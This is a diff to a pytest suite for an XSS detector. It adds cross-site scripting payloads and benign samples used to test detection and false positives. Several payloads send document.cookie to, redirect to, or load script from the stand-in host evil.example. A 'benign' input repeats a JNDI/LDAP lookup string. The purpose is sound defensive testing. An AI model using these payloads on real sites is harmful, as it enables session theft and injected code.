@@ -125,6 +125,7 @@ TECHNIQUES = {
         "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
         "ja&Tab;vascript:void(0)",
         "\xe2\x80\x89javascript:alert(1)",
+        "vbscript:msgbox",
     ],
     "script URL inside a value": ["[click](javascript:alert(1))", "?x=1&next=javascript:alert(1)"],
     "attribute break-outs": [
@@ -168,6 +169,9 @@ TECHNIQUES = {
         "x=new Image;x.src='//evil.example/?'+document.cookie",
         "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]",
         "<br size=\"&{alert('XSS')}\">",
+        "`${alert(document.domain)}`",
+        "document['coo'+'kie']",
+        "self[/*x*/'location']='//evil.example'",
         "'';!--\"<XSS>=&{()}",
     ],
     "template injection": [
@@ -180,6 +184,8 @@ TECHNIQUES = {
         "<<script>alert(1);//<</script>",
         '<img """><script>alert(1)</script>">',
         '<a href="http://x" <img src=x onerror=alert(1)>',
+        "document.write('<scr'+'ipt src=//evil.example/x.js></scr'+'ipt>')",
+        "<? echo('<scr)';echo('ipt>alert(1)</script>'); ?>",
     ],
     "encodings": [
         "%3Cscript%3Ealert(1)%3C/script%3E",
@@ -290,6 +296,13 @@ BENIGN = {
         "utm_source=newsletter&utm_medium=email&utm_campaign=spring",
         "style=modern&expr=1",
         "x = a < b ? c : d",
+    ],
+    "source code": [
+        'def f(x):\n    print("value", fmt(x), len(x))\n    return window["k"] if x else g("a", h(1))\n',
+        'el.addEventListener("click", function (e) { console.log("hi", e.target); setTimeout(cb, 10); });',
+        "document.getElementById('out').innerHTML = render(items);",
+        'SELECT name FROM users WHERE id = 1; -- "quoted" (note)',
+        "for (i=1;i<6;i++) { total += price[i]; }",
     ],
 }
 NEGATIVES = [pytest.param(v, id=f"{k}-{i}") for k, vs in BENIGN.items() for i, v in enumerate(vs)]
@@ -483,6 +496,20 @@ def test_a_flood_of_attack_shaped_fragments_is_reported() -> None:
     assert xss.detect(value) is not None
     big_rich_text = '<p>Hi <a href="https://e.example/a">x</a> <span style="color:#333">y</span></p>\n' * 800
     assert xss.detect(big_rich_text) is None
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "Dear {{ first_name }}, your order {{ order.id }} ships {{ date }}. " * 500,
+        "condition=new&region=eu&session=1&" * 1000,
+        "${jndi:ldap://x.example/a} ${env:HOME} " * 1000,
+        "see this [link](https://example.com) and this [one](/docs) " * 600,
+    ],
+    ids=["handlebars", "query-words", "lookups", "markdown-links"],
+)
+def test_long_benign_values_do_not_exhaust_the_budget(value: str) -> None:
+    assert xss.detect(value) is None
 
 
 # --------------------------------------------------------------------------- whole requests
